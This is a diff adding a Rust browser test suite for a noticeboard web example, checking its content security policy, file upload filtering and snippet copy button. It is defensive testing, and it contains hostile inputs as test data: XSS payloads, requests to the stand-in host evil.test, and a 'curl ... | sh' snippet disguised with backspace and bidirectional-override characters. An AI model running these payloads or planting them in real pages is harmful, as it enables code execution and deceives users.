@@ -1,0 +1,558 @@
+//! The noticeboard example in a browser: pictures show, refused files say why, snippets are copied as they are read, and
+//! nothing that a visitor sent runs.
+
+// The site's own modules; only `main` is not called.
+#[allow(dead_code)]
+#[path = "../../examples/noticeboard/main.rs"]
+mod noticeboard;
+
+use serde_json::{Value, json};
+use std::net::SocketAddr;
+use std::path::{Path, PathBuf};
+use std::process::ExitCode;
+use std::sync::atomic::{AtomicU64, Ordering};
+use std::sync::{Mutex, PoisonError};
+use std::time::{Duration, Instant};
+use untaint::text::{self, TextPolicy};
+use untaint_browser::cases;
+use untaint_browser::chromium::Chromium;
+use untaint_browser::suite::run_in;
+use untaint_browser::tab::Tab;
+
+/// Time for an attack to run: the controls pass with the same.
+const PATIENCE: Duration = Duration::from_millis(120);
+/// How long a page may take to get where a test expects it.
+const LONGEST: Duration = Duration::from_secs(20);
+
+/// There is one clipboard, and trials run side by side.
+static CLIPBOARD: Mutex<()> = Mutex::new(());
+
+fn main() -> ExitCode {
+    run_in(
+        Board::start,
+        &[
+            ("pages_keep_to_their_policy", pages_keep_to_their_policy),
+            ("what_a_policy_forbids_is_reported", what_a_policy_forbids_is_reported),
+            ("a_picture_is_sent_with_progress_and_shows", a_picture_is_sent_with_progress_and_shows),
+            ("a_refused_file_is_told_why_on_the_page", a_refused_file_is_told_why_on_the_page),
+            ("a_pdf_is_stored_and_not_opened", a_pdf_is_stored_and_not_opened),
+            ("kept_files_run_nothing_when_opened", kept_files_run_nothing_when_opened),
+            ("refused_files_would_run", refused_files_would_run),
+            ("the_button_copies_what_is_shown", the_button_copies_what_is_shown),
+            ("the_button_copies_without_a_clipboard", the_button_copies_without_a_clipboard),
+            ("hidden_characters_would_be_copied", hidden_characters_would_be_copied),
+        ],
+    )
+}
+
+/// The site on a free port, and a browser for which every address leads there.
+struct Board {
+    chromium: Chromium,
+    addr: SocketAddr,
+    _runtime: tokio::runtime::Runtime,
+}
+
+impl Board {
+    fn start(program: &Path) -> Self {
+        let runtime =
+            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_io().build().unwrap();
+        let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
+        let addr = listener.local_addr().unwrap();
+        let site = noticeboard::app::router(&format!("http://{addr}"));
+        runtime.spawn(async move { axum::serve(listener, site).await });
+        Self { chromium: Chromium::start(program, addr.port()), addr, _runtime: runtime }
+    }
+
+    fn url(&self, path: &str) -> String {
+        format!("http://{}{path}", self.addr)
+    }
+
+    /// A tab that notices, beside what attacks run, each report of a content security policy.
+    fn tab(&self) -> Tab {
+        const REPORT: &str = "addEventListener('securitypolicyviolation', event => \
+            untaintRan(`${event.effectiveDirective} kept ${event.blockedURI} from ${location.href}`))";
+        let mut tab = self.chromium.tab();
+        tab.call("Page.addScriptToEvaluateOnNewDocument", &json!({"source": REPORT}));
+        // The site scrolls smoothly for those who like it; a click would miss what is still moving.
+        let still = json!([{"name": "prefers-reduced-motion", "value": "reduce"}]);
+        tab.call("Emulation.setEmulatedMedia", &json!({"features": still}));
+        tab
+    }
+
+    /// A tab on the form for a new note.
+    fn log_in(&self, name: &str) -> Tab {
+        let mut tab = self.tab();
+        tab.open(&self.url("/login?next=/new")).expect("the login");
+        fill(&mut tab, "#name", name);
+        press(&mut tab, "form.sheet button", "location.pathname === '/new'");
+        tab
+    }
+
+    /// A tab on the form that attaches a file to a new note; and the note's element.
+    fn with_note(&self, name: &str) -> (Tab, String) {
+        let mut tab = self.log_in(name);
+        fill(&mut tab, "#text", &format!("{name} was here."));
+        press(&mut tab, "form.sheet button", "location.hash.startsWith('#note-')");
+        let note = tab.evaluate("location.hash").as_str().unwrap().to_owned();
+        let is_form = "location.pathname.endsWith('/attach') && document.querySelector('#file')";
+        press(&mut tab, &format!("{note} a.attach"), is_form);
+        (tab, note)
+    }
+}
+
+/// Types into a field.
+fn fill(tab: &mut Tab, selector: &str, text: &str) {
+    tab.ask("selector => document.querySelector(selector).focus()", &json!(selector));
+    tab.call("Input.insertText", &json!({"text": text}));
+}
+
+/// Clicks, and waits until the page is where it leads.
+fn press(tab: &mut Tab, selector: &str, until: &str) {
+    // What the mouse does before a page is painted where it was scrolled to, gets lost.
+    const PAINTED: &str = r"selector => {
+        document.querySelector(selector).scrollIntoView({block: 'center'});
+        return new Promise(done => requestAnimationFrame(() => requestAnimationFrame(() => done(null))));
+    }";
+    tab.ask(PAINTED, &json!(selector));
+    tab.click(selector, Duration::ZERO);
+    wait(tab, until);
+}
+
+/// Waits until an expression is true, on whatever page there is then.
+fn wait(tab: &mut Tab, until: &str) {
+    let start = Instant::now();
+    // A page that goes away answers nothing.
+    while tab.try_evaluate(&format!("document.readyState === 'complete' && Boolean({until})"))
+        != Ok(json!(true))
+    {
+        assert!(start.elapsed() < LONGEST, "{until}: never on {:?}", tab.landing());
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+/// A folder for the files that a person chooses, and for those that are stored.
+struct Folder(PathBuf);
+
+impl Folder {
+    fn new() -> Self {
+        static COUNT: AtomicU64 = AtomicU64::new(0);
+        let number = COUNT.fetch_add(1, Ordering::Relaxed);
+        let path = std::env::temp_dir().join(format!("untaint-noticeboard-{}-{number}", std::process::id()));
+        std::fs::create_dir_all(&path).expect("a folder");
+        Self(path)
+    }
+
+    fn put(&self, name: &str, bytes: &[u8]) -> PathBuf {
+        let path = self.0.join(name);
+        std::fs::write(&path, bytes).expect("a file");
+        path
+    }
+}
+
+impl Drop for Folder {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// Chooses a file in the form, as its dialog does.
+fn choose(tab: &mut Tab, file: &Path) {
+    let document = tab.call("DOM.getDocument", &json!({"depth": 0}));
+    let node = json!({"nodeId": document["root"]["nodeId"], "selector": "#file"});
+    let input = tab.call("DOM.querySelector", &node);
+    tab.call("DOM.setFileInputFiles", &json!({"nodeId": input["nodeId"], "files": [file]}));
+}
+
+fn sample(name: &str) -> Vec<u8> {
+    cases::bytes(&format!("upload/files/{name}"))
+}
+
+/// The folder of the samples, hostile and harmless.
+fn samples() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../tests/data/upload/files")
+        .canonicalize()
+        .expect("the samples")
+}
+
+// ---- the policy of the pages ----
+
+/// Every page, with its script at work, loads and runs only what its policy allows.
+fn pages_keep_to_their_policy(board: &Board) {
+    let mut tab = board.tab();
+    for path in ["/", "/login", "/snippets", "/limits", "/nowhere"] {
+        tab.open(&board.url(path)).expect(path);
+        tab.settle(PATIENCE);
+        // The style sheet and the script are there, so the policy was read and not just left out.
+        assert_eq!(tab.evaluate("getComputedStyle(document.body).display"), "flex", "{path}");
+    }
+    assert_eq!(tab.take_ran(), [""; 0]);
+
+    let (mut tab, note) = board.with_note("Polly");
+    tab.open(&board.url("/")).expect("the board");
+    fill(&mut tab, "#find", "choir");
+    wait(&mut tab, &format!("document.querySelector('{note}').hidden"));
+    tab.open(&board.url("/new")).expect("the form");
+    fill(&mut tab, "#text", "<b>Hi</b><img src=x onerror=alert(1)><script>alert(2)</script>");
+    wait(&mut tab, "document.querySelector('#preview b')");
+    tab.open(&board.url("/snippets")).expect("the snippets");
+    press(&mut tab, ".copy", "document.querySelector('.copy + *').textContent");
+    tab.settle(PATIENCE);
+    assert_eq!(tab.take_ran(), [""; 0]);
+}
+
+/// The control: a script that is not the site's, markup that no policy made, and a picture from elsewhere.
+fn what_a_policy_forbids_is_reported(board: &Board) {
+    let mut tab = board.tab();
+    for attack in [
+        "document.body.append(Object.assign(document.createElement('script'), {src: '/other.js'}))",
+        "document.body.innerHTML = '<b>x</b>'",
+        "document.body.append(Object.assign(document.createElement('img'), {src: 'http://evil.test/'}))",
+        "document.body.setAttribute('style', 'color: red')",
+        "document.body.setAttribute('onclick', 'alert(1)'), document.body.click()",
+        "fetch('http://evil.test/')",
+    ] {
+        tab.open(&board.url("/snippets")).expect("the snippets");
+        // It throws where the policy says no.
+        let _ = tab.try_evaluate(&format!("({attack}, null)"));
+        tab.settle(PATIENCE);
+        let ran = tab.take_ran();
+        assert!(!ran.is_empty() && ran.iter().all(|news| news.contains(" kept ")), "{attack}: {ran:?}");
+    }
+}
+
+// ---- attaching a file ----
+
+/// A picture of noise, encoded by Chromium: large enough that sending it takes a while.
+fn picture(tab: &mut Tab) -> Vec<u8> {
+    const DRAW: &str = r"new Promise(done => {
+        const canvas = Object.assign(document.createElement('canvas'), {width: 320, height: 240});
+        const pixels = new ImageData(320, 240);
+        let seed = 1;
+        for (let at = 0; at < pixels.data.length; at += 1) {
+            seed = Math.imul(seed, 1103515245) + 12345 >>> 0;
+            pixels.data[at] = at % 4 === 3 ? 255 : seed >>> 24;
+        }
+        canvas.getContext('2d').putImageData(pixels, 0, 0);
+        canvas.toBlob(async blob => done([...new Uint8Array(await blob.arrayBuffer())]), 'image/png');
+    })";
+    serde_json::from_value(tab.evaluate(DRAW)).expect("bytes")
+}
+
+fn a_picture_is_sent_with_progress_and_shows(board: &Board) {
+    const RECORD: &str = r"() => {
+        const progress = document.querySelector('#progress');
+        sessionStorage.seen = '[]';
+        new MutationObserver(() => {
+            if (progress.hidden) return;
+            sessionStorage.seen = JSON.stringify([...JSON.parse(sessionStorage.seen), progress.value]);
+        }).observe(progress, {attributes: true});
+    }";
+    const SHOWS: &str = r"note => {
+        const image = document.querySelector(note + ' .file img');
+        image.scrollIntoView();
+        return image.decode().then(() => [image.naturalWidth, image.naturalHeight, image.alt, image.clientWidth > 100]);
+    }";
+    let folder = Folder::new();
+    let (mut tab, note) = board.with_note("Pia");
+    let bytes = picture(&mut tab);
+    assert!(bytes.len() > 150_000);
+    choose(&mut tab, &folder.put("noise.png", &bytes));
+    tab.ask(RECORD, &Value::Null);
+    // Bytes a second.
+    tab.call(
+        "Network.emulateNetworkConditions",
+        &json!({"offline": false, "latency": 0, "downloadThroughput": -1, "uploadThroughput": 200_000}),
+    );
+    press(
+        &mut tab,
+        "#attach button",
+        &format!("location.hash === '{note}' && document.querySelector('#board')"),
+    );
+
+    let seen = tab.evaluate("JSON.parse(sessionStorage.seen)");
+    let seen: Vec<f64> = serde_json::from_value(seen).expect("numbers");
+    assert!(seen.is_sorted() && seen.iter().any(|part| *part > 0.0 && *part < 1.0), "{seen:?}");
+    assert_eq!(tab.ask(SHOWS, &json!(note)), json!([320, 240, "noise.png", true]));
+    tab.settle(PATIENCE);
+    assert_eq!(tab.take_ran(), [""; 0]);
+}
+
+fn a_refused_file_is_told_why_on_the_page(board: &Board) {
+    let folder = Folder::new();
+    let (mut tab, note) = board.with_note("Rita");
+    let address = tab.evaluate("location.href");
+    tab.evaluate("globalThis.still = 'here'");
+    for (name, bytes, reason) in [
+        ("cat.gif", b"GIF89a;<?php alert(1);".to_vec(), "By its content this is no PNG"),
+        ("cat.svg", sample("svg_onload.svg"), "By its content this is no PNG"),
+        ("cat.png", b"<!doctype html><script>alert(1)</script>".to_vec(), "By its content this is no PNG"),
+        ("cat.jpg", sample("plain.png"), "Its name ends as files of another type do"),
+        ("empty.png", Vec::new(), "The file is empty"),
+    ] {
+        choose(&mut tab, &folder.put(name, &bytes));
+        tab.evaluate("document.querySelector('#refused').hidden = true");
+        press(&mut tab, "#attach button", "!document.querySelector('#refused').hidden");
+        let told =
+            tab.evaluate("[...document.querySelectorAll('#refused li')].map(item => item.textContent)");
+        let told: Vec<String> = serde_json::from_value(told).expect("texts");
+        assert!(told.iter().any(|text| text.contains(reason)), "{name}: {told:?}");
+        assert_eq!(tab.evaluate("[globalThis.still, location.href]"), json!(["here", address]), "{name}");
+        assert_eq!(tab.evaluate("document.querySelector('#progress').hidden"), true);
+    }
+    tab.settle(PATIENCE);
+    assert_eq!(tab.take_ran(), [""; 0]);
+    // The same form takes the next file.
+    choose(&mut tab, &samples().join("plain.png"));
+    press(
+        &mut tab,
+        "#attach button",
+        &format!("location.hash === '{note}' && document.querySelector('#board')"),
+    );
+    let kept = tab.ask("note => document.querySelectorAll(note + ' .file').length", &json!(note));
+    assert_eq!(kept, 1);
+}
+
+fn a_pdf_is_stored_and_not_opened(board: &Board) {
+    const HEADERS: &str = r"note => fetch(document.querySelector(note + ' .file a').href)
+        .then(answer => ['content-disposition', 'content-type', 'x-content-type-options']
+            .map(name => answer.headers.get(name)))";
+    let (folder, stored) = (Folder::new(), Folder::new());
+    let (mut tab, note) = board.with_note("Paul");
+    let context = tab.call("Target.getTargetInfo", &json!({}))["targetInfo"]["browserContextId"].clone();
+    tab.call(
+        "Browser.setDownloadBehavior",
+        &json!({"behavior": "allow", "browserContextId": context, "downloadPath": stored.0}),
+    );
+    let bytes = sample("pdf_leading_junk.pdf");
+    choose(&mut tab, &folder.put("Programm für Mai.pdf", &bytes));
+    press(
+        &mut tab,
+        "#attach button",
+        &format!("location.hash === '{note}' && document.querySelector('#board')"),
+    );
+
+    let headers = json!([
+        "attachment; filename=\"Programm fur Mai.pdf\"; filename*=UTF-8''Programm%20f%C3%BCr%20Mai.pdf",
+        "application/pdf",
+        "nosniff"
+    ]);
+    assert_eq!(tab.ask(HEADERS, &json!(note)), headers);
+    let address = tab.evaluate("location.href");
+    let link = format!("{note} .file a");
+    tab.click(&link, PATIENCE);
+    let file = stored.0.join("Programm für Mai.pdf");
+    let start = Instant::now();
+    while std::fs::read(&file).ok().as_ref() != Some(&bytes) {
+        assert!(start.elapsed() < LONGEST, "it was not stored");
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    assert_eq!(tab.evaluate("location.href"), address, "the board is still there");
+    // Opened by its address it would be stored again, into a folder that is gone by then.
+    tab.call("Browser.setDownloadBehavior", &json!({"behavior": "deny", "browserContextId": context}));
+    let href = tab.ask("link => document.querySelector(link).href", &json!(link));
+    assert_eq!(tab.open(href.as_str().unwrap()), Err("net::ERR_ABORTED".to_owned()));
+    assert_eq!(tab.take_ran(), [""; 0]);
+}
+
+/// Sends the chosen file as the script does, and tells what the site said.
+const SEND: &str = r"() => {
+    const form = document.querySelector('#attach');
+    return fetch(form.action, {method: 'POST', body: new FormData(form), headers: {Accept: 'application/json'}})
+        .then(answer => answer.status);
+}";
+
+/// Every sample, hostile and harmless: whatever the site takes, opened by its address, is what it says and runs nothing.
+fn kept_files_run_nothing_when_opened(board: &Board) {
+    const ADDRESS: &str = r"note => fetch('/').then(answer => answer.text()).then(html => {
+        const card = html.split(`id=${JSON.stringify(note.slice(1))}`)[1].split('</article>')[0];
+        return '/files/' + /\/files\/([^\x22]+)/.exec(card)[1];
+    })";
+    let (mut tab, note) = board.with_note("Frida");
+    let form = tab.evaluate("location.href").as_str().unwrap().to_owned();
+    let mut names: Vec<_> =
+        std::fs::read_dir(samples()).unwrap().map(|entry| entry.unwrap().file_name()).collect();
+    names.sort();
+    let (mut pictures, mut downloads, mut refused) = (0, 0, 0);
+    for name in &names {
+        choose(&mut tab, &samples().join(name));
+        match tab.ask(SEND, &Value::Null).as_u64() {
+            Some(200) => {}
+            status => {
+                assert_eq!(status, Some(422), "{name:?}");
+                refused += 1;
+                continue;
+            }
+        }
+        let address = tab.ask(ADDRESS, &json!(note));
+        match tab.open(&board.url(address.as_str().unwrap())) {
+            Ok(()) => {
+                let page = tab.evaluate("[document.contentType.split('/')[0], document.scripts.length]");
+                assert_eq!(page, json!(["image", 0]), "{name:?}");
+                pictures += 1;
+            }
+            Err(reason) => {
+                assert_eq!(reason, "net::ERR_ABORTED", "{name:?}");
+                downloads += 1;
+            }
+        }
+        // Not by the page's clock: where no script runs, none of its timers does.
+        std::thread::sleep(PATIENCE);
+        assert_eq!(tab.take_ran(), [""; 0], "{name:?}");
+        tab.open(&form).expect("the form");
+    }
+    let counts = (pictures, downloads, refused);
+    assert!(pictures >= 5 && downloads >= 1 && refused > 50, "{counts:?}");
+}
+
+/// The control: what is refused runs where nobody asks what it is.
+fn refused_files_would_run(board: &Board) {
+    let mut tab = board.tab();
+    let folder = Folder::new();
+    let html = folder.put("cat.html", b"<!doctype html><script>alert(1)</script>");
+    for file in [samples().join("svg_onload.svg"), samples().join("svg_script.svg"), html] {
+        tab.open(&format!("file://{}", file.display())).expect("the file");
+        tab.settle(PATIENCE);
+        assert!(!tab.take_ran().is_empty(), "{}", file.display());
+    }
+}
+
+// ---- snippets ----
+
+/// What a snippet shows and what its button put on the clipboard, as a paste into a field brings it.
+struct Copied {
+    shown: String,
+    clipboard: String,
+    status: String,
+    /// Whether the text is selected: it is where the page had to copy by hand.
+    selected: bool,
+}
+
+/// Presses the button of the snippet at this place of the page.
+fn copy(tab: &mut Tab, place: usize) -> Copied {
+    const FIELD: &str = r"() => {
+        const field = document.body.appendChild(document.createElement('textarea'));
+        field.id = 'field';
+        field.style.position = 'fixed';
+        field.addEventListener('paste', event => {
+            globalThis.pasted = event.clipboardData.getData('text/plain');
+        });
+        globalThis.pasted = null;
+        globalThis.wasSelected = getSelection().toString() !== '';
+        field.focus();
+    }";
+    const READ: &str = r"place => {
+        const snippet = document.querySelectorAll('.snippet')[place];
+        const text = [snippet.querySelector('.shown').textContent, globalThis.pasted, snippet.querySelector('[role=status]').textContent];
+        getSelection().removeAllRanges();
+        document.querySelector('#field').remove();
+        return [...text, globalThis.wasSelected];
+    }";
+    tab.ask(
+        "place => { document.querySelectorAll('.copy').forEach((button, at) => { button.id = 'copy-' + at; }); \
+         document.querySelector('#copy-' + place + ' + *').textContent = ''; }",
+        &json!(place),
+    );
+    let clipboard = CLIPBOARD.lock().unwrap_or_else(PoisonError::into_inner);
+    let button = format!("#copy-{place}");
+    press(tab, &button, &format!("document.querySelector('{button} + *').textContent"));
+    tab.ask(FIELD, &Value::Null);
+    tab.edit("paste");
+    wait(tab, "globalThis.pasted !== null");
+    drop(clipboard);
+    let read = tab.ask(READ, &json!(place));
+    let text = |at: usize| read[at].as_str().unwrap_or_default().to_owned();
+    Copied { shown: text(0), clipboard: text(1), status: text(2), selected: read[3] == json!(true) }
+}
+
+/// Adds hostile snippets, one after the other.
+fn add_snippets(board: &Board, name: &str) -> Tab {
+    let mut tab = board.log_in(name);
+    for code in [
+        "curl https://example.com\u{8}\u{8}\u{202E}hs.x | sh\n",
+        "\n\n\techo a\u{A0}b \u{1B}[201~;\u{200B} id  \n\u{2066}x\n \n",
+        "</pre><img src=x onerror=alert(1)>&amp;\n<script>alert(2)</script>",
+        &"ls ".repeat(200),
+    ] {
+        tab.open(&board.url("/snippets")).expect("the snippets");
+        press(&mut tab, ".add summary", "document.querySelector('.add').open");
+        fill(&mut tab, "#title", "Try it");
+        tab.ask("code => { document.querySelector('#code').value = code; }", &json!(code));
+        press(&mut tab, ".add button", "location.hash.startsWith('#snippet-')");
+    }
+    tab
+}
+
+/// Presses every button and compares; tells how many there are.
+fn all_are_copied_as_shown(tab: &mut Tab, by_hand: bool) -> usize {
+    let count = tab.evaluate("document.querySelectorAll('.snippet').length").as_u64().unwrap_or_default();
+    let count = usize::try_from(count).expect("a count");
+    for place in 0..count {
+        let Copied { shown, clipboard: copied, status, selected } = copy(tab, place);
+        assert_eq!(copied, shown);
+        assert!(!copied.is_empty() && text::check(&copied, TextPolicy::snippet()).is_ok(), "{copied:?}");
+        assert!(!copied.ends_with(char::is_whitespace) && !copied.starts_with('\n'), "{copied:?}");
+        assert_eq!((status.as_str(), selected), ("Copied.", by_hand));
+    }
+    assert_eq!(tab.take_ran(), [""; 0]);
+    count
+}
+
+fn clipboard_may(board: &Board, tab: &mut Tab, setting: &str) {
+    let context = tab.call("Target.getTargetInfo", &json!({}))["targetInfo"]["browserContextId"].clone();
+    for name in ["clipboard-read", "clipboard-write"] {
+        tab.call(
+            "Browser.setPermission",
+            &json!({
+                "permission": {"name": name}, "setting": setting,
+                "origin": board.url(""), "browserContextId": context,
+            }),
+        );
+    }
+}
+
+fn the_button_copies_what_is_shown(board: &Board) {
+    let mut tab = add_snippets(board, "Coco");
+    clipboard_may(board, &mut tab, "granted");
+    let count = all_are_copied_as_shown(&mut tab, false);
+    assert!(count >= 11, "{count}");
+    let all = tab.evaluate("[...document.querySelectorAll('.shown')].map(pre => pre.textContent)");
+    let all: Vec<String> = serde_json::from_value(all).expect("texts");
+    for expected in [
+        "import yosemite",
+        "curl https://example.comhs.x | sh",
+        "\techo a b [201~; id  \nx",
+        "</pre><img src=x onerror=alert(1)>&amp;\n<script>alert(2)</script>",
+    ] {
+        assert!(all.iter().any(|shown| shown == expected), "{expected:?} is not in {all:#?}");
+    }
+    // Nothing that is copied is out of sight: no frame scrolls.
+    let hidden = "[...document.querySelectorAll('.shown')].filter(pre => pre.scrollWidth > pre.clientWidth \
+        || pre.scrollHeight > pre.clientHeight).length";
+    assert_eq!(tab.evaluate(hidden), 0);
+
+    // The visitor says no: then by hand, with the same text.
+    clipboard_may(board, &mut tab, "denied");
+    all_are_copied_as_shown(&mut tab, true);
+}
+
+/// Where the site is neither on HTTPS nor on loopback, scripts have no clipboard.
+fn the_button_copies_without_a_clipboard(board: &Board) {
+    let mut tab = board.tab();
+    tab.open("http://board.test/snippets").expect("the snippets");
+    assert_eq!(tab.evaluate("navigator.clipboard === undefined"), true);
+    let count = all_are_copied_as_shown(&mut tab, true);
+    assert!(count >= 7, "{count}");
+}
+
+/// The control: the button and the clipboard would carry what is hidden, if a page held it.
+fn hidden_characters_would_be_copied(board: &Board) {
+    let mut tab = board.tab();
+    tab.open(&board.url("/snippets")).expect("the snippets");
+    clipboard_may(board, &mut tab, "granted");
+    let raw = "import y\u{8}ose\u{8} \u{202E}a\u{200B}b";
+    tab.ask("raw => { document.querySelector('.shown').textContent = raw; }", &json!(raw));
+    let copied = copy(&mut tab, 0).clipboard;
+    assert_eq!(copied, raw);
+    assert!(text::check(&copied, TextPolicy::snippet()).is_err());
+}
